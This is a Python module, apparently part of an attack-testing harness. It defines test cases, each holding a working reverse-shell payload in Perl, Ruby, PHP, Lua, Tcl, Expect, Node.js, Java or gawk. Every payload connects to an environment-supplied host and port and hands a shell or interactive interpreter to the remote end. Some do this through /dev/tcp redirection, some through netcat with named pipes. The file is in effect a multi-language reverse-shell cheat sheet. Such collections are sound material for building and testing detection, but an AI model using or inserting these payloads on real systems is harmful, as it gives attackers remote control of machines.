"""Shells by other languages, and languages that are themselves what the operator speaks to."""

from __future__ import annotations

from attacks.cases.base import Case
from live.channels import Transport
from live.programs import Language
from live.shells import Speech

_PERL_CALL = 'use IO::Socket::INET;\nmy $net = IO::Socket::INET->new("$ENV{HOST}:$ENV{PORT}") or die;\n'
_PERL_STREAMS = 'open STDIN, "<&", $net; open STDOUT, ">&", $net; open STDERR, ">&", $net;\n'

CASES = (
    Case(name="perl-exec", language=Language.PERL, text=_PERL_CALL + _PERL_STREAMS + "exec '/bin/sh', '-i';"),
    Case(
        name="perl-low-level",
        language=Language.PERL,
        text="""
use POSIX (); use Socket;
socket(my $net, PF_INET, SOCK_STREAM, getprotobyname('tcp') || 6);
connect($net, sockaddr_in($ENV{PORT}, inet_aton($ENV{HOST}))) or die;
POSIX::dup2(fileno $net, $_) for 0 .. 2;
exec { '/bin/bash' } 'perl -w report.pl';
""",
    ),
    Case(
        name="perl-open3-relay",
        language=Language.PERL,
        text=_PERL_CALL
        + """
use IPC::Open3; use IO::Select;
my $pid = open3(my $down, my $up, undef, 'bash');
my $any = IO::Select->new($net, $up);
while (my @ready = $any->can_read) {
    for my $side (@ready) {
        sysread($side, my $data, 4096) or exit;
        syswrite($side == $up ? $net : $down, $data);
    }
}
""",
    ),
    Case(
        name="perl-fork-pipe",
        language=Language.PERL,
        text=_PERL_CALL
        + """
open(my $shell, '|-', "exec sh >&" . do { require Fcntl; fcntl($net, 2, 0); fileno $net } . " 2>&1") or die;
$shell->autoflush(1);
while (sysread $net, my $order, 512) { print $shell $order }
""",
    ),
    Case(
        name="perl-debugger",
        language=Language.PERL,
        speech=Speech.PERL_SYSTEM,
        text=_PERL_CALL + _PERL_STREAMS + "exec 'perl', '-de', '0';",
    ),
    Case(
        name="perl-evaluates-lines",
        language=Language.BASH,
        programs=("perl",),
        speech=Speech.PERL_SYSTEM,
        text="exec perl -ne 'eval' <>/dev/tcp/$HOST/$PORT >&0 2>&0",
    ),
    Case(
        name="ruby-spawn",
        language=Language.RUBY,
        text="""
require 'socket'
net = TCPSocket.new(ENV['HOST'], ENV['PORT'])
Process.wait spawn('sh', %i[in out err] => net)
""",
    ),
    Case(
        name="ruby-popen-threads",
        language=Language.RUBY,
        text="""
require 'socket'
net = TCPSocket.new(ENV['HOST'], ENV['PORT'])
IO.popen('bash 2>&1', 'r+') do |shell|
  Thread.new { IO.copy_stream(shell, net) }
  while (order = net.gets)
    shell.puts order
  end
end
""",
    ),
    Case(
        name="ruby-prompt",
        language=Language.BASH,
        programs=("irb",),
        speech=Speech.RUBY,
        text="exec irb -f --noreadline --noautocomplete --nocolorize <>/dev/tcp/$HOST/$PORT >&0 2>&0",
    ),
    Case(
        name="php-proc-open-socket",
        language=Language.PHP,
        text="""
<?php
$net = stream_socket_client("tcp://{$_SERVER['HOST']}:{$_SERVER['PORT']}");
proc_close(proc_open(['sh', '-i'], [$net, $net, $net], $none));
""",
    ),
    Case(
        name="php-proc-open-pipes",
        language=Language.PHP,
        text="""
<?php
$net = fsockopen(getenv('HOST'), (int) getenv('PORT'));
$shell = proc_open('exec bash', [['pipe', 'r'], ['pipe', 'w'], ['redirect', 1]], $ends);
while (true) {
    $ready = [$net, $ends[1]];
    $no = null;
    stream_select($ready, $no, $no, null);
    foreach ($ready as $side) {
        $data = fread($side, 4096);
        if ($data === '' || $data === false) exit;
        fwrite($side === $net ? $ends[0] : $net, $data);
    }
}
""",
    ),
    Case(
        name="lua-prompt",
        language=Language.BASH,
        programs=("lua5.4",),
        speech=Speech.LUA,
        text="exec lua5.4 -i <>/dev/tcp/$HOST/$PORT >&0 2>&0",
    ),
    Case(
        name="lua-popen-netcat",
        language=Language.LUA,
        programs=("nc.openbsd",),
        text="""
os.execute("mkfifo l")
local net = io.popen("nc.openbsd " .. os.getenv("HOST") .. " " .. os.getenv("PORT") .. " < l", "r")
local shell = io.popen("sh > l 2>&1", "w")
for order in net:lines() do shell:write(order, "\\n"):flush() end
""",
    ),
    Case(
        name="tcl-exec-channel",
        language=Language.TCL,
        text="set net [socket $env(HOST) $env(PORT)]\nexec sh <@ $net >@ $net 2>@ $net",
    ),
    Case(
        name="tcl-fileevent",
        language=Language.TCL,
        text="""
set net [socket $env(HOST) $env(PORT)]
set shell [open "|bash 2>@1" r+]
foreach {from to} [list $net $shell $shell $net] {
    fconfigure $from -blocking 0 -buffering none
    fileevent $from readable [list apply {{from to} {
        puts -nonewline $to [read $from]
        if {[eof $from]} exit
    }} $from $to]
}
vwait forever
""",
    ),
    Case(
        name="tcl-prompt",
        language=Language.BASH,
        programs=("tclsh",),
        speech=Speech.TCL,
        text="exec tclsh <>/dev/tcp/$HOST/$PORT >&0 2>&0",
    ),
    Case(
        name="expect-joins-shell",
        language=Language.BASH,
        programs=("expect", "nc.openbsd"),
        text="""
            expect -c '
                log_user 0
                spawn -noecho nc.openbsd $env(HOST) $env(PORT)
                set net $spawn_id
                spawn -noecho sh -i
                interact -u $net
            '
        """,
    ),
    Case(
        name="node-pipes",
        language=Language.NODE,
        text="""
const net = require('net').connect(process.env.PORT, process.env.HOST, () => {
  const shell = require('child_process').spawn('bash', []);
  net.pipe(shell.stdin);
  shell.stdout.pipe(net);
  shell.stderr.pipe(net);
});
""",
    ),
    Case(
        name="node-inherits-socket",
        language=Language.NODE,
        text="""
const net = require('net').connect({ port: process.env.PORT, host: process.env.HOST });
net.on('connect', () => require('child_process').spawn('/bin/sh', ['-i'], { stdio: [net, net, net] }));
""",
    ),
    Case(
        name="node-prompt",
        language=Language.BASH,
        programs=("node",),
        speech=Speech.NODE,
        text="exec node -i <>/dev/tcp/$HOST/$PORT >&0 2>&0",
    ),
    Case(
        name="java-streams",
        language=Language.JAVA,
        text="""
import java.net.Socket;

class Main {
    public static void main(String[] none) throws Exception {
        var net = new Socket(System.getenv("HOST"), Integer.parseInt(System.getenv("PORT")));
        var shell = new ProcessBuilder("sh").redirectErrorStream(true).start();
        new Thread(() -> {
            try {
                var in = net.getInputStream();
                var out = shell.getOutputStream();
                for (int c; (c = in.read()) >= 0; out.flush()) out.write(c);
            } catch (java.io.IOException closed) {
            }
        }).start();
        shell.getInputStream().transferTo(net.getOutputStream());
    }
}
""",
    ),
    Case(
        name="gawk-coprocess",
        language=Language.GAWK,
        text="""
BEGIN {
    net = "/inet/tcp/0/" ENVIRON["HOST"] "/" ENVIRON["PORT"]
    shell = "exec sh 2>&1"
    while ((net |& getline order) > 0) {
        print order "; echo :end:" |& shell
        while ((shell |& getline answer) > 0 && answer != ":end:") print answer |& net
        fflush(net)
    }
}
""",
    ),
    Case(
        name="gawk-shell-writes-to-pipe",
        language=Language.GAWK,
        transport=Transport.TCP,
        programs=("nc.openbsd",),
        text="""
BEGIN {
    system("mkfifo g")
    net = "nc.openbsd " ENVIRON["HOST"] " " ENVIRON["PORT"] " < g"
    shell = "bash > g 2>&1"
    print ":" | shell
    fflush(shell)
    while ((net | getline order) > 0) { print order | shell; fflush(shell) }
}
""",
    ),
)
